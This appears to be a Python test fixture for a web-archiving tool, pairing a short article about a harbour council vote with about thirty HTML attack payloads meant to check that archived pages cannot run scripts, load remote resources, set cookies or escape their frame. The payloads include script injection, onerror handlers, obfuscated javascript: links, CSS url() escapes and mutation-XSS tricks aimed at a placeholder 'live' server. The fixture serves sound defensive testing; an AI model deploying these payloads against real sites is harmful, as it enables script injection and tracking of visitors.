"""Pages that try what an archived page can try once it is shown: to run, to ask, to leave, to stay."""

from __future__ import annotations

WORDS = "The harbour belongs to everybody who works in it"
ARTICLE = (
    f"<article><h1>Harbour vote</h1><p>“{WORDS},” said Ada Marlow, the auditor, on Tuesday.</p>"
    "<p>The council met for three hours and heard from eleven speakers before it voted on the contract. It will meet "
    "again in a fortnight, when the harbour master is to present the accounts of the past three years.</p>"
    "<p>The ferry has been run by the same company since the quay was rebuilt after the storm of 1987. Its licence ends in "
    "March, and the town has not yet said whether it means to run the boats itself from then on.</p>"
    "<p>Fishermen who had come to listen left before the end. The gallery was closed at ten in the evening.</p></article>"
)

RUN = "document.title=`EXECUTED`;new Image().src=`{live}/ran`"

ATTACKS: dict[str, str] = {
    "inline script": "<script>" + RUN + "</script>",
    "external script": "<script src='{live}/script.js'></script>",
    "module script": "<script type=module>import '{live}/module.js'</script>",
    "event handler on an image": '<img src=x onerror="' + RUN + '">',
    "event handler on the body": '<body onload="' + RUN + '" onpageshow="' + RUN + '">',
    "svg with a script": '<svg onload="' + RUN + '"><script>' + RUN + "</script></svg>",
    "svg with an animation": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src='{live}/foreign'></iframe></foreignObject></svg>",
    "javascript link": '<a href="javascript:' + RUN + '" id=j>click</a>',
    "obfuscated javascript link": '<a href="jav&#x09;ascript&colon;' + RUN + '">click</a>',
    "data link": '<a href="data:text/html,<script>' + RUN + '</script>">click</a>',
    "iframe": "<iframe src='{live}/frame'></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>' + RUN + "</script><img src='{live}/srcdoc'>\"></iframe>",
    "object and embed": "<object data='{live}/object'></object><embed src='{live}/embed'></embed>",
    "meta refresh": '<meta http-equiv=refresh content="0;url={live}/refresh">',
    "base": "<base href='{live}/base/'><img src=relative.png><link rel=stylesheet href=relative.css>",
    "form that submits itself": "<form action='{live}/form' id=f><input autofocus onfocus='this.form.submit()'></form>",
    "live image": "<img src='{live}/image.png' srcset='{live}/image2.png 2x'><picture><source srcset='{live}/p.webp'></picture>",
    "live style sheet": "<link rel=stylesheet href='{live}/style.css'><style>@import '{live}/import.css';</style>",
    "style that loads": "<style>body{{background:url({live}/background.png)}}@font-face{{font-family:x;src:url({live}/f.woff2)}}"
    "h1{{font-family:x}}</style>",
    "obfuscated style": "<style>body{{background:u\\72l({live}/escaped.png)}}p{{background:URL(  '{live}/upper.png' )}}</style>",
    "style attribute": "<p style=\"background:url('{live}/attribute.png');position:fixed;top:0\">x</p>",
    "image set": "<style>body{{background:image-set('{live}/set.png' 1x);content:url({live}/content.png)}}</style>",
    "style that ends its element": "<style>p{{content:'</style><script>" + RUN + "</script>'}}</style>",
    "preload and prefetch": "<link rel=preload as=image href='{live}/preload'><link rel=prefetch href='{live}/prefetch'>"
    "<link rel=dns-prefetch href='{live}'><link rel=preconnect href='{live}'><link rel=icon href='{live}/icon'>",
    "video and audio": "<video src='{live}/video' poster='{live}/poster' autoplay></video><audio src='{live}/audio' autoplay>"
    "</audio>",
    "service worker": "<script>navigator.serviceWorker.register('/static/copy.js')</script><link rel=manifest "
    "href='{live}/manifest'>",
    "cookie": "<meta http-equiv=set-cookie content='stolen=yes'><script>document.cookie='stolen=yes'</script>",
    "markup that changes when read again": "<noscript><p title=\"</noscript><img src={live}/mutated onerror='"
    + RUN
    + "'>\">"
    '</noscript><math><mtext><table><mglyph><style><img src={live}/mxss onerror="'
    + RUN
    + '"></style></table></mtext></math>',
    "template and slot": "<template shadowrootmode=open><img src='{live}/shadow' onerror=\"" + RUN + '"></template>',
    "frame escape": "<a href='{live}/top' target=_parent ping='{live}/ping'>x</a><base target=_top>",
    "our own marks": "<mark id=onrecord-quote-1 class=onrecord-quote>not what was said</mark>",
}
"""Name → what is next to the article; `{live}` is a server that must never be asked."""


def page_of(attack: str, live: str) -> str:
    """A page with an article and an attack before and behind it."""
    made = ATTACKS[attack].format(live=live)
    head = (
        "<title>Harbour vote</title><meta property=og:type content=article>"
        "<meta property=article:published_time content=2026-11-10T18:00:00Z>"
    )
    return f"<!DOCTYPE html><html lang=en>{head}<body>{made}{ARTICLE}{made}</html>"
